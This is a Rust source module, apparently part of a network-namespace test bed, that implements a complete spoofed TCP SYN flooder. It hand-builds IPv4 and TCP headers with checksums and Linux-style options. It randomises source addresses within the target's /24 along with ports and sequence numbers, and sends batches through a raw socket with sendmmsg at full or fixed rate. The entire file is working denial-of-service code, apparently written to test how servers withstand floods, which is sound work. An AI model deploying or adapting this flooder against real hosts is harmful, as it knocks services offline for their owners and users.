//! The attacker: spoofed TCP SYNs written whole (IPv4 header included) to a
//! raw socket, as fast as the kernel takes them or at a fixed rate.
//!
//! Every SYN comes from a random address inside the target's /24 (never
//! `.0`, `.1` (the kernel's own address there), `.2` (the server) or
//! `.255`), a random port and a random ISN, with the options a Linux client
//! sends (MSS 1460, SACK permitted, timestamps, window scale 7), so that the
//! server treats it as it would a real connection attempt. The answers go
//! to addresses nobody holds and are dropped by the attacker's kernel.

use std::io;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

/// IPv4 header (20) + TCP header (20) + options (20).
const LEN: usize = 60;
/// SYNs handed to the kernel per `sendmmsg`.
const BATCH: usize = 64;

/// What to send.
#[derive(Clone, Copy)]
pub struct Spec {
    /// The first three octets of the /24 the sources are drawn from.
    pub net: [u8; 3],
    pub dst: Ipv4Addr,
    pub port: u16,
    /// Sending stops after this long or `max` SYNs, whichever is first.
    pub dur: Duration,
    pub max: u64,
    /// SYNs per second; 0 sends as fast as the kernel accepts them.
    pub pps: u64,
    pub seed: u64,
}

/// What was sent.
#[derive(Debug, Clone, Default)]
pub struct Sent {
    /// SYNs the kernel accepted from the raw socket (a device may still
    /// drop them: see the device counters).
    pub syns: u64,
    /// Time from the first send to the last.
    pub secs: f64,
    /// `sendmmsg` calls that failed (ENOBUFS, EAGAIN), retried.
    pub send_errors: u64,
}

impl Sent {
    pub fn rate(&self) -> f64 {
        if self.secs > 0.0 {
            self.syns as f64 / self.secs
        } else {
            0.0
        }
    }
}

/// xorshift64*: fast enough to randomise every field of every SYN.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
}

/// Ones' complement sum of `data` added to `sum`, not folded.
fn sum16(mut sum: u32, data: &[u8]) -> u32 {
    for w in data.chunks(2) {
        sum += u32::from(u16::from_be_bytes([w[0], *w.get(1).unwrap_or(&0)]));
    }
    sum
}

fn fold(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// Writes one SYN into `p`.
fn syn(p: &mut [u8; LEN], src: [u8; 4], dst: [u8; 4], sport: u16, dport: u16, rng: &mut Rng) {
    let r = rng.next();
    // IPv4: version 4, IHL 5, total length 60, DF, TTL 64, protocol TCP.
    p[..20].copy_from_slice(&[
        0x45, 0, 0, LEN as u8, 0, 0, 0x40, 0, 64, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
    ]);
    p[4..6].copy_from_slice(&(r as u16).to_be_bytes());
    p[12..16].copy_from_slice(&src);
    p[16..20].copy_from_slice(&dst);
    let c = fold(sum16(0, &p[..20]));
    p[10..12].copy_from_slice(&c.to_be_bytes());
    // TCP: data offset 10 words, SYN, window 64240.
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dport.to_be_bytes());
    t[4..8].copy_from_slice(&((r >> 16) as u32).to_be_bytes());
    t[8..12].fill(0);
    t[12] = 10 << 4;
    t[13] = 0x02;
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    t[16..20].fill(0);
    // MSS 1460, SACK permitted, timestamps (TSval random, TSecr 0), NOP,
    // window scale 7: the order Linux uses.
    t[20..40].copy_from_slice(&[
        2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7,
    ]);
    t[28..32].copy_from_slice(&((r >> 40) as u32 | 1).to_be_bytes());
    let mut sum = sum16(0, &src);
    sum = sum16(sum, &dst);
    sum += 6 + (LEN as u32 - 20);
    let c = fold(sum16(sum, t));
    t[16..18].copy_from_slice(&c.to_be_bytes());
}

/// Sends SYNs per `spec` from the calling thread (which must be in the
/// attacker's namespace).
pub fn run(spec: &Spec) -> io::Result<Sent> {
    // SAFETY: plain socket(2); the fd is closed below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    let r = send_loop(fd, spec);
    // SAFETY: fd is ours and not used afterwards.
    unsafe { libc::close(fd) };
    r
}

fn send_loop(fd: libc::c_int, spec: &Spec) -> io::Result<Sent> {
    let mut rng = Rng(spec.seed | 1);
    let dst = spec.dst.octets();
    // SAFETY: sockaddr_in is plain data; zeroed is a valid value.
    let mut to: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    to.sin_family = libc::AF_INET as libc::sa_family_t;
    to.sin_addr.s_addr = u32::from_ne_bytes(dst);
    let mut bufs = vec![[0u8; LEN]; BATCH];
    let mut iovs: Vec<libc::iovec> = bufs
        .iter_mut()
        .map(|b| libc::iovec {
            iov_base: b.as_mut_ptr().cast(),
            iov_len: LEN,
        })
        .collect();
    // SAFETY: mmsghdr is plain data; every pointer is set below.
    let mut msgs: Vec<libc::mmsghdr> = (0..BATCH).map(|_| unsafe { std::mem::zeroed() }).collect();
    for (m, iov) in msgs.iter_mut().zip(iovs.iter_mut()) {
        m.msg_hdr.msg_name = (&mut to as *mut libc::sockaddr_in).cast();
        m.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
        m.msg_hdr.msg_iov = iov;
        m.msg_hdr.msg_iovlen = 1;
    }
    let start = Instant::now();
    let mut out = Sent::default();
    let mut last = start;
    while out.syns < spec.max && start.elapsed() < spec.dur {
        if spec.pps > 0 {
            let due = start + Duration::from_secs_f64(out.syns as f64 / spec.pps as f64);
            let now = Instant::now();
            if due > now {
                std::thread::sleep((due - now).min(Duration::from_millis(10)));
                continue;
            }
        }
        let n = BATCH.min((spec.max - out.syns) as usize);
        for b in &mut bufs[..n] {
            let r = rng.next();
            let host = 3 + (r % 252) as u8;
            let src = [spec.net[0], spec.net[1], spec.net[2], host];
            let sport = 1024 + ((r >> 8) % 64512) as u16;
            syn(b, src, dst, sport, spec.port, &mut rng);
        }
        // SAFETY: msgs[..n] point at live buffers and at `to`.
        let sent = unsafe { libc::sendmmsg(fd, msgs.as_mut_ptr(), n as u32, libc::MSG_DONTWAIT) };
        if sent < 0 {
            let e = io::Error::last_os_error();
            match e.raw_os_error() {
                Some(libc::ENOBUFS) | Some(libc::EAGAIN) | Some(libc::EINTR) => {
                    out.send_errors += 1;
                    std::thread::yield_now();
                }
                _ => return Err(e),
            }
        } else {
            out.syns += sent as u64;
            last = Instant::now();
        }
    }
    out.secs = last.duration_since(start).as_secs_f64();
    Ok(out)
}
